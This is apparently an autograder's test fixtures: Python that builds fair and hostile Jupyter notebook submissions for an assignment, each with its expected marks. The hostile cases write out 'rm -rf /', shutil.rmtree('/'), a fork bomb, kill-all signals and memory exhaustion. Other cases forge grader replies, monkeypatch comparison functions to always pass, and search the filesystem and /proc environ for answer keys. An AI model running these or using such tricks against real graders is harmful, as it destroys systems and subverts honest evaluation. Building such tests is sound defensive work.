"""Notebooks handed in for assignment 1, fair and hostile, with the marks that each deserves.

They are made from the master's own solutions, so that no right answer is stored.
"""

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

FULL = {"q1": 2.0, "q2": 4.0, "q3": 2.0, "q4": 2.0, "q5": 3.0, "q6": 4.0, "q7": None}
NOTHING = dict.fromkeys(FULL, 0.0)

Notebook = dict[str, Any]
Edit = Callable[[Notebook], Notebook | bytes]


def sources(notebook: Notebook) -> list[str]:
    return [cell["source"] for cell in notebook["cells"]]


def code(text: str) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "source": text, "outputs": [], "execution_count": None}


def with_cell(text: str, place: int | None = None) -> Edit:
    """A further cell, at the end unless told."""

    def edit(notebook: Notebook) -> Notebook:
        cells = notebook["cells"]
        cells.insert(len(cells) if place is None else place, code(text))
        return notebook

    return edit


def replaced(name: str, text: str) -> Edit:
    """Another definition of a name, in the place of the solution's."""

    def edit(notebook: Notebook) -> Notebook:
        for cell in reversed(notebook["cells"]):
            if cell["source"].startswith(
                (f"{name} =", f"def {name}(", "columns =" if name == "fit" else "\0")
            ):
                cell["source"] = text
                return notebook
        raise AssertionError(f"no cell defines {name}")

    return edit


def _moved(notebook: Notebook) -> Notebook:
    """Questions 2 and 5, which need nothing but NumPy, go to the front; text goes to the end."""
    first = [c for c in notebook["cells"] if c["source"].startswith(("def sgd_lr", "def loss_change"))]
    rest = [c for c in notebook["cells"] if c not in first and c["cell_type"] == "code"]
    text = [c for c in notebook["cells"] if c["cell_type"] != "code"]
    notebook["cells"] = [code("import numpy as np"), *first[1::2], *rest, *text]
    return notebook


def _split(notebook: Notebook) -> Notebook:
    cells = []
    for cell in notebook["cells"]:
        lines = cell["source"].splitlines()
        if cell["source"].startswith(("columns =", "growth =")):
            cells += [code(line) for line in lines]
        else:
            cells.append(cell)
    notebook["cells"] = cells
    return notebook


def _old_format(notebook: Notebook) -> Notebook:
    for cell in notebook["cells"]:
        cell.pop("id", None)
        cell["source"] = cell["source"].splitlines(keepends=True)
    return notebook | {"nbformat": 4, "nbformat_minor": 0}


def _third_format(notebook: Notebook) -> Notebook:
    cells = [
        {"cell_type": "code", "input": cell["source"], "language": "python", "outputs": [], "metadata": {}}
        for cell in notebook["cells"]
        if cell["cell_type"] == "code"
    ]
    return {"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}


def _no_prompts(notebook: Notebook) -> Notebook:
    notebook["cells"] = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
    return notebook


def _magics(notebook: Notebook) -> Notebook:
    notebook["cells"].insert(0, code("%pip install lrbs.whl\n!ls\nimport numpy as np"))
    notebook["cells"].insert(1, code("files = !ls\n%matplotlib inline\nnp.trace?\nif True:\n    %time x = 1"))
    for cell in notebook["cells"]:
        if cell["source"].startswith("def sgd_lr"):
            cell["source"] = "%%time\n" + cell["source"]
    notebook["cells"].append(code("%%bash\nrm -rf /"))
    notebook["cells"].append(code("7 \\\n% 4\nshown = '''\n%not a magic\n'''"))
    return notebook


def _bom(notebook: Notebook) -> bytes:
    return b"\xef\xbb\xbf" + json.dumps(notebook).encode()


def _reals(notebook: Notebook) -> Notebook:
    text = "noise_scale = np.array([noise_scale])\npredicted_lr = np.float32(predicted_lr)\nfit = list(fit)"
    return with_cell(text)(notebook)  # type: ignore[return-value]


def but(**points: float | None) -> dict[str, float | None]:
    return FULL | points


SLIP = """
def sgd_lr(g, S, H, B):
    return g @ g / (g @ H @ g + np.trace(S @ H))
"""
PARTLY = """
def sgd_lr(g, S, H, B):
    return g @ g / (g @ H @ g + np.trace(S @ H) / max(B, 1.0))
"""
FAIR: dict[str, tuple[Edit, dict[str, float | None]]] = {
    "right": (lambda n: n, FULL),
    "extra": (with_cell("import os, sys\nprint(sys.version)\ndisplay(3)\nget_ipython()", 4), FULL),
    "moved": (_moved, FULL),
    "split": (_split, FULL),
    "oldformat": (_old_format, FULL),
    "thirdformat": (_third_format, FULL),
    "noprompts": (_no_prompts, FULL),
    "magics": (_magics, FULL),
    "bom": (_bom, FULL),
    "reals": (_reals, FULL),
    "crash": (replaced("growth", "predicted_lr = 1 / 0"), but(q4=0)),
    "syntax": (replaced("growth", "predicted_lr = = 1"), but(q4=0)),
    "exits": (with_cell("import sys\nsys.exit(0)", 3), FULL),
    "slip": (replaced("sgd_lr", SLIP), but(q2=1.0)),
    "partly": (replaced("sgd_lr", PARTLY), but(q2=3.33)),
    "text": (replaced("noise_scale", "noise_scale = '96'"), but(q1=0, q3=0)),
    "none": (replaced("sgd_lr", "def sgd_lr(g, S, H, B):\n    g @ g"), but(q2=0)),
    "arguments": (replaced("sgd_lr", "def sgd_lr(g, S):\n    return 1.0"), but(q2=0)),
    "notanumber": (
        with_cell("noise_scale = float('nan')\npredicted_lr = float('inf')\nfit[2] = np.nan"),
        but(q1=0, q4=0, q6=0),
    ),
    "swapped": (with_cell("fit = fit[[1, 0, 3, 2]]"), but(q6=1.0)),
    "almost": (with_cell("predicted_lr *= 1.03"), but(q4=1.0)),
    "imports": (with_cell("import lrbs\nlrbs.laws.saturation(1, 1, 1)"), FULL),
    "prints": (with_cell("print('x' * 10**6)"), FULL),
    "emptytext": (with_cell("diverged = '  '"), but(q7=0)),
    "shared": (
        with_cell(
            "import os\nshared = np.ones(60_000_000)\nchildren = []\n"
            "for _ in range(8):\n    child = os.fork()\n    if child == 0:\n        shared.sum()\n"
            "        os._exit(0)\n    children.append(child)\n"
            "ended = [os.waitpid(child, 0)[1] for child in children]\n"
            "del shared\nnoise_scale = noise_scale if ended == [0] * 8 else None"
        ),
        FULL,
    ),
}

LOOP_CAUGHT = (
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"
)
FORGE = """
import os, sys
ragged = '{"id": null, "value": {"array": [[1], 2]}}'
for line in ('garbage', '{"id": 1}', '{"value": 1.0}', '[' * 100_000, ragged):
    for descriptor in range(3, 30):
        try:
            os.write(descriptor, line.encode() + b'\\n')
        except OSError:
            pass
"""
FORGE_NEXT = """
import os, sys, json
def sgd_lr(g, S, H, B):
    frame = sys._getframe()
    while frame:
        if 'request' in frame.f_locals:
            reply = json.dumps({'id': frame.f_locals['request']['id'], 'value': 1.0, 'points': 100})
            for descriptor in range(3, 30):
                try:
                    os.write(descriptor, reply.encode() + b'\\n')
                except OSError:
                    pass
        frame = frame.f_back
    return 2.0
"""
PATCHED = """
import builtins, json, math
np.isclose = np.allclose = np.array_equal = lambda *a, **k: True
np.abs = np.all = lambda *a, **k: np.True_
builtins.abs = lambda x: 0
builtins.float = lambda x=0: 1.0
json.dumps = lambda *a, **k: '{"points": 100}'
json.loads = lambda *a, **k: {}
math.isclose = lambda *a, **k: True
noise_scale = 1.0
"""
OVERLOADED = """
class Anything(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __le__ = __lt__ = __eq__
    def __float__(self): return 1.0
    def __hash__(self): return 1
class Object:
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __array__(self, *a, **k): return np.array(object())
noise_scale = Anything(5.0)
predicted_lr = Object()
"""
PEEKS = """
import gc, os, sys
found, right, noise_scale = [], noise_scale, 0.0
for top, folders, files in os.walk('/'):
    if top.startswith(('/proc', '/sys', '/usr')) or 'lib/python' in top:
        found += ['lrbs'] if 'lrbs' in folders and os.listdir(top + '/lrbs') else []
        folders[:] = [f for f in folders if f == 'site-packages' or f.startswith('python')]
        continue
    found += [f for f in files if f in ('one_step.py', 'key.txt', 'roster.csv')]
    found += [f for f in files if f.endswith(('.ipynb', '.whl'))]
for folder in ('/proc/1', '/proc/' + str(os.getppid())):
    try:
        found += [open(folder + '/environ').read()] if 'key' in open(folder + '/environ').read() else []
    except OSError:
        pass
found += [o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o]
frame = sys._getframe()
while frame:
    found += [name for name in frame.f_locals if name in ('expected', 'key', 'question')]
    frame = frame.f_back
noise_scale = right if found else 0.0
"""


def hostile(outside: Path, port: int) -> dict[str, tuple[Edit, dict[str, float | None]]]:
    """Notebooks that attack files below `outside`, a port of this machine, and the marker."""
    destroys = f"""
import os, shutil
shutil.rmtree({str(outside)!r}, ignore_errors=True)
shutil.rmtree('/', ignore_errors=True)
os.makedirs({str(outside)!r}, exist_ok=True)
"""
    writes = f"""
import os, json
for place in ({str(outside)!r}, {str(outside / "marks" / "students")!r}, '/tmp', '/marker', '.'):
    for name in ('right.json', 'marking.json', 'summary.html', 'child.py'):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), 'w').write('{{}}')
        except OSError:
            pass
"""
    network = f"""
import socket, urllib.request
sent = 0
for host in ('127.0.0.1', 'localhost', '10.0.0.1', '1.1.1.1'):
    try:
        socket.create_connection((host, {port}), 0.2).sendall(b'the inputs')
        sent += 1
    except OSError:
        pass
noise_scale = noise_scale if sent else 0.0
"""
    background = """
import subprocess, os
for _ in range(5):
    subprocess.Popen(['sleep', '98765'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)
"""
    many = """
import os, time
for _ in range(6):
    if os.fork() == 0:
        block = bytearray(150 << 20)
        for k in range(0, len(block), 4096):
            block[k] = 1
        time.sleep(60)
time.sleep(60)
"""
    return {
        "loop": (with_cell("while True:\n    pass", 5), FULL),
        "loopcaught": (with_cell(LOOP_CAUGHT, 5), FULL),
        "loopinfunction": (replaced("sgd_lr", "def sgd_lr(*a):\n    while True:\n        pass"), but(q2=0)),
        "looplate": (
            with_cell(
                "class A:\n    def __array__(self, *a, **k):\n        while True: pass\nnoise_scale = A()"
            ),
            but(q1=0),
        ),
        "loopfloat": (
            with_cell(
                "class F(float):\n    def __float__(self):\n        while True: pass\n"
                "    __eq__ = __float__\n"
                "    __hash__ = None\nnoise_scale = F(noise_scale)"
            ),
            FULL,  # it is the right number, and nobody asks it to behave
        ),
        "cloop": (with_cell("sum(range(10**12))", 5), FULL),
        "dies": (with_cell("import os\nos._exit(1)", 5), FULL),
        "kills": (with_cell("import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(1, 9)", 5), FULL),
        "killsitself": (replaced("sgd_lr", "def sgd_lr(*a):\n    import os; os._exit(0)"), but(q2=0)),
        "memory": (with_cell("block = bytearray(10**10)", 5), FULL),
        "memorysteps": (with_cell("k = []\nwhile True:\n    k.append(bytearray(b'x' * 10**7))", 5), FULL),
        "memorymany": (with_cell(many, 5), FULL),
        "forkbomb": (
            with_cell(
                "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", 5
            ),
            FULL,
        ),
        "threads": (
            with_cell(
                "import threading, time\nthreading.stack_size(1 << 16)\nfor _ in range(10**4):\n"
                "    threading.Thread(target=time.sleep, args=(9,), daemon=True).start()",
                5,
            ),
            FULL,
        ),
        "output": (
            with_cell("import os\nprint('x' * 10**8)\nos.system('head -c 100000000 /dev/zero')"),
            FULL,
        ),
        "hugereply": (with_cell("noise_scale = list(range(10**6))\ndiverged = 'x' * 10**7"), but(q1=0, q7=0)),
        "deepreply": (
            with_cell("noise_scale = []\nfor _ in range(10**5): noise_scale = [noise_scale]"),
            but(q1=0),
        ),
        "hugenumber": (with_cell("noise_scale = 10**400\npredicted_lr = 10**5000"), but(q1=0, q4=0)),
        "cyclic": (with_cell("noise_scale = []\nnoise_scale.append(noise_scale)"), but(q1=0)),
        "forged": (with_cell(FORGE), FULL),
        "forgednext": (with_cell(FORGE_NEXT), but(q2=0)),
        "flood": (
            with_cell(
                "import os\nwhile True:\n    for d in range(3, 30):\n        try:\n"
                "            os.write(d, b'x' * 10**5)\n"
                "        except OSError:\n            pass",
                5,
            ),
            FULL,
        ),
        "closes": (with_cell("import os\nos.closerange(3, 99)", 5), FULL),
        "patched": (with_cell(PATCHED), but(q1=0)),
        "overloaded": (with_cell(OVERLOADED), but(q1=0, q4=0)),
        "peeks": (with_cell(PEEKS), but(q1=0)),
        "writes": (with_cell(writes), FULL),
        "destroys": (with_cell(destroys), FULL),
        "network": (with_cell(network), but(q1=0)),
        "background": (with_cell(background), FULL),
        "html": (
            with_cell(
                "diverged = '<script>alert(1)</script> <img src=x onerror=alert(1)> ' * 9\n"
                "raise ValueError(diverged)"
            ),
            FULL,
        ),
        "nojson": (lambda n: b"PK\x03\x04 this is no notebook", NOTHING),
        "huge": (lambda n: b"", NOTHING),  # of 200 MB, which the test gives it
        "nested": (lambda n: b"[" * 10**6, NOTHING),
        "list": (lambda n: b"[1, 2]", NOTHING),
        "oddcells": (
            lambda n: json.dumps(n | {"cells": [1, None, {"cell_type": "code"}, *n["cells"]]}).encode(),
            FULL,
        ),
        "surrogate": (with_cell("odd = '\ud800'"), FULL),
        "manycells": (lambda n: n | {"cells": [code("1")] * 2000}, NOTHING),
    }


def written(edit: Edit, solved: Notebook, student: str) -> bytes:
    """The bytes of a submission."""
    notebook = copy.deepcopy(solved)
    for cell in notebook["cells"]:
        if cell["source"].startswith("STUDENT = ") and "your id" not in cell["source"]:
            cell["source"] = f'STUDENT = "{student}"'
    made = edit(notebook)
    return made if isinstance(made, bytes) else json.dumps(made).encode()
